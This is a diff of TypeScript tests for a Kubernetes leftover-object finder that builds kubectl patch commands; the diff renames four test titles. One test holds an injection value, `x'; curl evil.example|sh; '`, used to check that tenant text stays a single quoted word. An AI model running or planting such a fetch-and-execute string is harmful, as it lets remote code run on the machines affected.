@@ -59,7 +59,7 @@ const objectLine = {
 const undo = (place: string, patch: object): string =>
   `kubectl patch ${place} --type merge --patch '${JSON.stringify(patch)}'`;
 
-test('what is left is named with the line that removes it', async () => {
+test('remaining objects are reported with the command that removes them', async () => {
   const { kubectl } = cluster('{"tools/capture":"l"}', [[secret]]);
   const annotations = { 'packet-capture/opted-in-by': null };
   expect(await findLeftovers(search(kubectl))).toEqual([
@@ -87,7 +87,7 @@ test('a key that another release has set too stays, and so does its mark', async
   ]);
 });
 
-test("a tenant's words in a mark stay one word of the line", async () => {
+test('the text of a mark stays one word of the command', async () => {
   const evil = `x'; curl evil.example|sh; '`;
   const { kubectl } = cluster(JSON.stringify({ 'tools/capture': evil, [evil]: 'y' }), [[]]);
   const [{ line } = { line: '' }] = await findLeftovers(search(kubectl));
@@ -102,13 +102,13 @@ test("a tenant's words in a mark stay one word of the line", async () => {
   expect(words.slice(7)).toEqual(['']);
 });
 
-test('what other releases have set is theirs, and controllers are given time', async () => {
+test('marks of other releases are not reported, and controllers get time to delete objects', async () => {
   const { kubectl, asked } = cluster('{"other/capture":"l"}', [[secret], []]);
   expect(await findLeftovers({ ...search(kubectl), patienceSeconds: 10 })).toEqual([]);
   expect(asked()).toBe(2);
 });
 
-test('kubectl is asked namespace by namespace: it passes over objects of another one without a word', async () => {
+test('kubectl is called for each namespace, because it ignores objects of other namespaces without a message', async () => {
   const asked: string[] = [];
   const kubectl: Kubectl = async (args, call) => {
     const { items = [] } = JSON.parse(call?.input ?? '{}') as {
